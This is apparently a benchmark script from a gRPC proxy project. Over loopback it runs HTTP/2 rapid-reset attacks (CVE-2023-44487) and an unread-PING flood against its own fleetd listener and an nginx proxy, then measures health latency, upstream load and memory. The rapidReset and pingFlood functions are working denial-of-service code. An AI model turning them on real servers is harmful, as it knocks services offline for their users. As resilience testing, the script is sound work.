"""
HTTP/2 abuse against the tink listener (issue 17, item 7): four rapid-reset
attackers (CVE-2023-44487) and one PING flood that never reads its ACKs,
against C{twistd -n fleetd} and then against nginx C{grpc_pass}, both in
front of the same grpcio tink-server stand-in (L{fleetd.testing.tinkserver}).

While the attack runs, a probe asks C{/healthz} on fleetd's admin listener
(for nginx: a C{/healthz} location served by the same worker) every
C{--probe-every} seconds over one keep-alive TLS connection, and a real
grpcio agent calls C{GetAction} every C{--agent-every} seconds. Each
attacker is a process of its own with a source address of its own
(127.0.0.2-5; the PING flood 127.0.0.6; the agent and the probe 127.0.0.1),
sends streams as fast as it can in batches of C{--batch} and opens a new
connection whenever the server closes its connection. C{--attack headers}
is the CVE's pattern (HEADERS, RST_STREAM); C{--attack whole} sends a whole
request first (HEADERS, DATA with the message and END_STREAM, RST_STREAM),
the worst case for the upstream. The PING flood sends C{--ping-mib} MiB of
PINGs in all, over as many connections as it takes, with a 4 KiB receive
buffer and no reads.

Reported per server: /healthz p50/p99/max and failures, the agent's calls
(OK, failed, p99), the attackers' connections and streams, the streams the
upstream saw (its generic handler counts every call it is offered) and per
attacking connection, PING bytes sent, and the server's RSS before, after
and at its peak. The server is pinned to CPU 0, everything else to CPU 1.
Loopback only; every process started is stopped.

    .venv/bin/python bench/h2_abuse.py --seconds 10
"""

from __future__ import annotations

import argparse
import http.client
import multiprocessing
import os
import select
import shutil
import socket
import ssl
import sys
import tempfile
import threading
import time
from pathlib import Path
from typing import Any

import grpc
import hpack

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from bench._fleet import Daemon, makeFleet, procStatus
from bench.boot_storm import freePort
from bench.tink_proxy import Nginx
from fleetd.testing.tinkserver import Script, ScriptHandler

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS = b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"
METHOD = "/proto.WorkflowService/GetAction"
REQUEST = b"\x0a\x1152:54:00:12:34:56"
MESSAGE = b"\x00" + len(REQUEST).to_bytes(4, "big") + REQUEST


def frame(kind: int, flags: int, sid: int, payload: bytes) -> bytes:
    return (
        len(payload).to_bytes(3, "big")
        + bytes([kind, flags])
        + sid.to_bytes(4, "big")
        + payload
    )


def streamFrames(block: bytes, sid: int, whole: bool) -> bytes:
    """One attacking stream: HEADERS [DATA END_STREAM] RST_STREAM(CANCEL)."""
    out = frame(0x1, 0x4, sid, block)
    if whole:
        out += frame(0x0, 0x1, sid, MESSAGE)
    return out + frame(0x3, 0x0, sid, (8).to_bytes(4, "big"))


def connect(port: int, source: str, ca: bytes, rcvbuf: int = 0) -> ssl.SSLSocket:
    context = ssl.create_default_context(cadata=ca.decode())
    context.set_alpn_protocols(["h2"])
    raw = socket.socket()
    if rcvbuf:
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    raw.bind((source, 0))
    raw.settimeout(10)
    raw.connect(("127.0.0.1", port))
    return context.wrap_socket(raw, server_hostname="localhost")


def rapidReset(
    port: int, source: str, ca: bytes, seconds: float, whole: bool, batch: int, out: Any
) -> None:
    """Reset streams as fast as possible for C{seconds}, reconnecting."""
    os.nice(19)  # the probe and the agent share this CPU: let them run
    block = hpack.Encoder().encode(
        [
            (b":method", b"POST"),
            (b":scheme", b"https"),
            (b":path", METHOD.encode()),
            (b":authority", b"localhost"),
            (b"te", b"trailers"),
            (b"content-type", b"application/grpc"),
        ]
    )
    end = time.monotonic() + seconds
    connections = streams = 0
    while time.monotonic() < end:
        try:
            sock = connect(port, source, ca)
        except OSError:
            time.sleep(0.01)
            continue
        connections += 1
        sid = 1
        try:
            sock.sendall(PREFACE + SETTINGS)
            while time.monotonic() < end:
                chunk = b"".join(
                    streamFrames(block, sid + 2 * i, whole) for i in range(batch)
                )
                sock.sendall(chunk)
                sid += 2 * batch
                streams += batch
                while select.select([sock], [], [], 0)[0]:
                    if not sock.recv(65536):
                        raise EOFError
        except (OSError, EOFError):
            pass
        finally:
            sock.close()
    out.put(("reset", connections, streams))


def pingFlood(
    port: int, source: str, ca: bytes, total: int, seconds: float, out: Any
) -> None:
    """Send C{total} bytes of PINGs (for at most C{seconds}), reading
    nothing, reconnecting."""
    os.nice(19)
    chunk = frame(0x6, 0x0, 0, b"12345678") * 4096  # 68 KiB
    sent = connections = 0
    deadline = time.monotonic() + seconds
    while sent < total and time.monotonic() < deadline:
        try:
            sock = connect(port, source, ca, rcvbuf=4096)
        except OSError:
            time.sleep(0.01)
            continue
        connections += 1
        try:
            sock.sendall(PREFACE + SETTINGS)
            while sent < total and time.monotonic() < deadline:
                sock.sendall(chunk)
                sent += len(chunk)
        except OSError:
            pass
        finally:
            sock.close()
    out.put(("ping", connections, sent))


class Probe(threading.Thread):
    """GET /healthz every C{every} seconds over one keep-alive connection."""

    def __init__(self, port: int, ca: bytes, every: float) -> None:
        super().__init__(daemon=True)
        self.port, self.every = port, every
        self.context = ssl.create_default_context(cadata=ca.decode())
        self.latencies: list[float] = []
        self.failures = 0
        self.stopping = threading.Event()

    def run(self) -> None:
        conn: http.client.HTTPSConnection | None = None
        while not self.stopping.is_set():
            began = time.perf_counter()
            try:
                if conn is None:
                    conn = http.client.HTTPSConnection(
                        "localhost", self.port, timeout=10, context=self.context
                    )
                conn.request("GET", "/healthz")
                response = conn.getresponse()
                response.read()
                if response.status != 200:
                    raise OSError(response.status)
                self.latencies.append(time.perf_counter() - began)
            except (OSError, http.client.HTTPException):
                self.failures += 1
                conn = None
            self.stopping.wait(max(0.0, self.every - (time.perf_counter() - began)))


def probeMain(port: int, ca: bytes, every: float, stop: Any, out: Any) -> None:
    """A L{Probe} in a process of its own (no GIL shared with the
    stand-in), until C{stop} is set."""
    probe = Probe(port, ca, every)
    probe.start()
    stop.wait()
    probe.stopping.set()
    probe.join()
    out.put((probe.latencies, probe.failures))


class ProbeProcess:
    def __init__(self, port: int, ca: bytes, every: float) -> None:
        spawn = multiprocessing.get_context("spawn")
        self.stop = spawn.Event()
        self.out = spawn.Queue()
        self.process = spawn.Process(
            target=probeMain, args=(port, ca, every, self.stop, self.out)
        )
        self.process.start()

    def finish(self) -> tuple[list[float], int]:
        self.stop.set()
        latencies, failures = self.out.get(timeout=60)
        self.process.join(30)
        return latencies, failures


class Agent(threading.Thread):
    """A grpcio agent calling GetAction every C{every} seconds."""

    def __init__(self, port: int, ca: bytes, every: float) -> None:
        super().__init__(daemon=True)
        self.every = every
        self.channel = grpc.secure_channel(
            f"localhost:{port}", grpc.ssl_channel_credentials(root_certificates=ca)
        )
        self.call = self.channel.unary_unary(METHOD, lambda b: b, lambda b: b)
        self.latencies: list[float] = []
        self.failed: dict[str, int] = {}
        self.stopping = threading.Event()

    def run(self) -> None:
        while not self.stopping.is_set():
            began = time.perf_counter()
            try:
                self.call(REQUEST, timeout=5)
                self.latencies.append(time.perf_counter() - began)
            except grpc.RpcError as e:
                name = e.code().name
                self.failed[name] = self.failed.get(name, 0) + 1
            self.stopping.wait(max(0.0, self.every - (time.perf_counter() - began)))
        self.channel.close()


class CountingHandler(grpc.GenericRpcHandler):  # type: ignore[misc]
    """Counts every call the stand-in is offered, then lets it answer."""

    def __init__(self) -> None:
        self.calls = 0
        self.lock = threading.Lock()

    def service(self, details: Any) -> None:
        with self.lock:
            self.calls += 1
        return None


class StandIn:
    """The grpcio tink-server stand-in (L{fleetd.testing.tinkserver}, h2c), answering
    GetAction with an empty message, with a L{CountingHandler} first."""

    def __init__(self) -> None:
        from concurrent import futures

        self.script = Script()
        self.script.unary["GetAction"] = lambda request, context: b""
        self.counter = CountingHandler()
        self.server = grpc.server(futures.ThreadPoolExecutor(max_workers=8))
        self.server.add_generic_rpc_handlers((self.counter, ScriptHandler(self)))
        self.port = self.server.add_insecure_port("127.0.0.1:0")
        self.server.start()


def percentile(values: list[float], q: float) -> float:
    values = sorted(values)
    return 1000 * values[int(q * (len(values) - 1))] if values else float("nan")


def pingAlone(
    name: str, tinkPort: int, pid: int, ca: bytes, args: argparse.Namespace
) -> dict[str, Any]:
    """The PING flood alone: the server's RSS growth per 16 MiB sent."""
    spawn = multiprocessing.get_context("spawn")
    out: Any = spawn.Queue()
    before = procStatus(pid, "VmRSS")
    worker = spawn.Process(
        target=pingFlood,
        args=(tinkPort, "127.0.0.6", ca, args.ping_mib << 20, args.seconds, out),
    )
    worker.start()
    _, connections, sent = out.get(timeout=args.seconds + 60)
    worker.join(30)
    time.sleep(2)  # connections cut off, buffers freed
    after = procStatus(pid, "VmRSS")
    mib = sent / (1 << 20)
    row = {
        "ping_alone_mib_sent": mib,
        "ping_alone_connections": connections,
        "ping_alone_rss_growth_mib": (after - before) / 1024,
        "ping_alone_growth_per_16mib": (after - before) / 1024 * 16 / max(mib, 1e-9),
    }
    for key, value in row.items():
        shown = f"{value:.2f}" if isinstance(value, float) else value
        print(f"  {name:7} {key:28} {shown}", flush=True)
    return row


def attack(
    name: str,
    tinkPort: int,
    healthPort: int,
    pid: int,
    ca: bytes,
    counter: CountingHandler,
    args: argparse.Namespace,
) -> dict[str, Any]:
    quiet = ProbeProcess(healthPort, ca, args.probe_every)
    time.sleep(3)
    quietLatencies, _ = quiet.finish()
    probe = ProbeProcess(healthPort, ca, args.probe_every)
    agent = Agent(tinkPort, ca, args.agent_every)
    agent.start()
    time.sleep(1)
    rssBefore = procStatus(pid, "VmRSS")
    callsBefore = counter.calls
    agentCalls = len(agent.latencies)
    spawn = multiprocessing.get_context("spawn")  # no fork under grpc's threads
    out: Any = spawn.Queue()
    whole = args.attack == "whole"
    workers = [
        spawn.Process(
            target=rapidReset,
            args=(
                tinkPort,
                f"127.0.0.{2 + n}",
                ca,
                args.seconds,
                whole,
                args.batch,
                out,
            ),
        )
        for n in range(4)
    ]
    workers.append(
        spawn.Process(
            target=pingFlood,
            args=(tinkPort, "127.0.0.6", ca, args.ping_mib << 20, args.seconds, out),
        )
    )
    spy = None
    if args.py_spy:
        import subprocess

        spy = subprocess.Popen(
            [
                args.py_spy,
                "record",
                "-p",
                str(pid),
                "-f",
                "raw",
                "-r",
                "200",
                "-d",
                str(int(args.seconds)),
                "-o",
                f"{name}.{args.attack}.spy",
            ],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
    for worker in workers:
        worker.start()
    results = [out.get(timeout=args.seconds + 180) for _ in workers]
    for worker in workers:
        worker.join(30)
    time.sleep(1)
    if spy is not None:
        spy.wait(60)
    latencies, failures = probe.finish()
    agent.stopping.set()
    agent.join()
    upstream = counter.calls - callsBefore - (len(agent.latencies) - agentCalls)
    upstream -= sum(agent.failed.values())  # at most: failed calls may count
    connections = sum(r[1] for r in results if r[0] == "reset")
    row = {
        "server": name,
        "quiet_p99_ms": percentile(quietLatencies, 0.99),
        "healthz_p50_ms": percentile(latencies, 0.5),
        "healthz_p99_ms": percentile(latencies, 0.99),
        "healthz_max_ms": percentile(latencies, 1.0),
        "healthz_n": len(latencies),
        "healthz_failed": failures,
        "agent_ok": len(agent.latencies) - agentCalls,
        "agent_failed": dict(agent.failed),
        "agent_p99_ms": percentile(agent.latencies[agentCalls:], 0.99),
        "attack_connections": connections,
        "attack_streams": sum(r[2] for r in results if r[0] == "reset"),
        "upstream_streams": max(0, upstream),
        "upstream_per_connection": max(0, upstream) / max(1, connections),
        "ping_connections": sum(r[1] for r in results if r[0] == "ping"),
        "ping_mib_sent": sum(r[2] for r in results if r[0] == "ping") / (1 << 20),
        "rss_before_mib": rssBefore / 1024,
        "rss_after_mib": procStatus(pid, "VmRSS") / 1024,
        "rss_peak_mib": procStatus(pid, "VmHWM") / 1024,
    }
    for key, value in row.items():
        shown = f"{value:.2f}" if isinstance(value, float) else value
        print(f"  {name:7} {key:28} {shown}", flush=True)
    return row


def nginxConfig(pki: Path, port: int, health: int, upstream: int) -> str:
    tls = (
        f"    ssl_certificate {pki}/public.pem;\n"
        f"    ssl_certificate_key {pki}/public.key;\n"
    )
    return (
        f"  upstream tink {{ server 127.0.0.1:{upstream}; keepalive 32; }}\n"
        f"  server {{\n    listen 127.0.0.1:{port} ssl http2;\n{tls}"
        "    location / { grpc_pass grpc://tink; }\n  }\n"
        f"  server {{\n    listen 127.0.0.1:{health} ssl;\n{tls}"
        '    location = /healthz { return 200 "ok\\n"; }\n  }\n'
    )


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--seconds", type=float, default=10.0)
    parser.add_argument("--attack", choices=("headers", "whole"), default="whole")
    parser.add_argument("--batch", type=int, default=100)
    parser.add_argument("--ping-mib", type=int, default=16)
    parser.add_argument("--probe-every", type=float, default=0.02)
    parser.add_argument("--agent-every", type=float, default=0.05)
    parser.add_argument("--servers", default="fleetd,nginx")
    parser.add_argument(
        "--py-spy", help="py-spy binary: profile fleetd into ./fleetd.ATTACK.spy"
    )
    args = parser.parse_args()
    servers = args.servers.split(",")
    if "nginx" in servers and shutil.which("nginx") is None:
        raise SystemExit("nginx is needed for --servers nginx")
    os.sched_setaffinity(0, {1})
    work = Path(tempfile.mkdtemp(prefix="h2abuse-"))
    vault = Path(tempfile.mkdtemp(prefix="h2abuse-", dir="/dev/shm"))
    upstream = StandIn()
    counter = upstream.counter
    fleet = makeFleet(
        work / "fleetd",
        vault / "configs",
        {"tink": {"upstream": f"tcp:127.0.0.1:{upstream.port}"}},
    )
    ca = fleet.pki.public_ca.read_bytes()
    started: list[Any] = []
    rows = []
    try:
        if "fleetd" in servers:
            daemon = Daemon(fleet, cpus="0")
            daemon.start(waitFor=b"listen.started tink ")
            started.append(daemon)
            rows.append(pingAlone("fleetd", daemon.ports["tink"], daemon.pid, ca, args))
            rows.append(
                attack(
                    "fleetd",
                    daemon.ports["tink"],
                    daemon.ports["admin"],
                    daemon.pid,
                    ca,
                    counter,
                    args,
                )
            )
            calm = daemon.logText().count("tink.h2.enhance-your-calm")
            print(f"  fleetd  enhance-your-calm lines (throttled) {calm}")
            daemon.stop()
        if "nginx" in servers:
            port, health = freePort(), freePort()
            nginx = Nginx(
                work / "nginx",
                nginxConfig(fleet.pki.directory, port, health, upstream.port),
                "0",
                port,
            )
            started.append(nginx)
            rows.append(pingAlone("nginx", port, nginx.pid, ca, args))
            rows.append(attack("nginx", port, health, nginx.pid, ca, counter, args))
            nginx.stop()
    finally:
        for each in reversed(started):
            each.stop()
        upstream.server.stop(None)
        shutil.rmtree(vault, ignore_errors=True)
        shutil.rmtree(work, ignore_errors=True)


if __name__ == "__main__":
    os.environ.setdefault("GRPC_VERBOSITY", "ERROR")
    main()
